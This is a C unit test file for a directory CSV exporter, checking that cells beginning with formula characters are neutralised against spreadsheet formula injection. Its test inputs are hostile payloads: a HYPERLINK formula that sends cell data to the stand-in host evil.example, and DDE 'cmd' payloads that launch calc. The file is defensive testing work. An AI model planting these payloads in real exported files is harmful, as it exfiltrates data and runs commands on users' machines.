/* The directory's CSV (annuaire.csv of essp-mirror, essp directory --csv)
 * against formula injection: a cell that begins with = + - @, TAB or CR
 * is written quoted, after an apostrophe, so that a spreadsheet shows it
 * as text (OWASP's rule); one test per character, with the payloads a
 * hostile applicant would send, and the cells that must stay as given. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#include "proto/directory.h"

#include <msgpack.h>
#include <stdio.h>
#include <stdlib.h>

/*  The CSV line of an entry whose name is `name`: {"id": "x1",
 *  "organisation": {"name": name}}. */
static char *s_row_of_name(const char *name)
{
    msgpack_sbuffer buf;
    msgpack_sbuffer_init(&buf);
    msgpack_packer pk;
    msgpack_packer_init(&pk, &buf, msgpack_sbuffer_write);
    msgpack_pack_map(&pk, 2);
    msgpack_pack_str_with_body(&pk, "id", 2);
    msgpack_pack_str_with_body(&pk, "x1", 2);
    msgpack_pack_str_with_body(&pk, "organisation", 12);
    msgpack_pack_map(&pk, 1);
    msgpack_pack_str_with_body(&pk, "name", 4);
    msgpack_pack_str_with_body(&pk, name, strlen(name));
    msgpack_zone zone;
    msgpack_zone_init(&zone, 1024);
    msgpack_object entry;
    assert_int_equal(msgpack_unpack(buf.data, buf.size, NULL, &zone, &entry), MSGPACK_UNPACK_SUCCESS);
    char *text = NULL;
    size_t size = 0;
    FILE *out = open_memstream(&text, &size);
    assert_int_equal(directory_csv_row(out, &entry), 0);
    fclose(out);
    msgpack_zone_destroy(&zone);
    msgpack_sbuffer_destroy(&buf);
    return text;
}

/*  The name's cell as written: the row is "x1," then the name's cell. */
static void s_assert_name_cell(const char *name, const char *cell)
{
    char *row = s_row_of_name(name);
    assert_int_equal(strncmp(row, "x1,", 3), 0);
    assert_int_equal(strncmp(row + 3, cell, strlen(cell)), 0);
    assert_int_equal(row[3 + strlen(cell)], ',');
    free(row);
}

static void test_equals_sign(void **state)
{
    s_assert_name_cell("=HYPERLINK(\"https://evil.example/?\"&A1,\"Cliquez\")",
                       "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Cliquez\"\")\"");
}

static void test_plus_sign(void **state)
{
    s_assert_name_cell("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\"");
}

static void test_minus_sign(void **state)
{
    s_assert_name_cell("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\"");
}

static void test_at_sign(void **state)
{
    s_assert_name_cell("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"");
}

static void test_tab(void **state)
{
    s_assert_name_cell("\t=1+1", "\"'\t=1+1\"");
}

static void test_carriage_return(void **state)
{
    s_assert_name_cell("\r=1+1", "\"'\r=1+1\"");
}

/*  Only the first character counts: text with a sign inside, a hyphen in
 *  a name, an empty cell are written as given. */
static void test_other_cells_are_unchanged(void **state)
{
    s_assert_name_cell("Coop=Plus", "Coop=Plus");
    s_assert_name_cell("Saint-Nazaire Conseil", "Saint-Nazaire Conseil");
    s_assert_name_cell("", "");
    s_assert_name_cell("a@b, c", "\"a@b, c\"");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_equals_sign),
        cmocka_unit_test(test_plus_sign),
        cmocka_unit_test(test_minus_sign),
        cmocka_unit_test(test_at_sign),
        cmocka_unit_test(test_tab),
        cmocka_unit_test(test_carriage_return),
        cmocka_unit_test(test_other_cells_are_unchanged),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
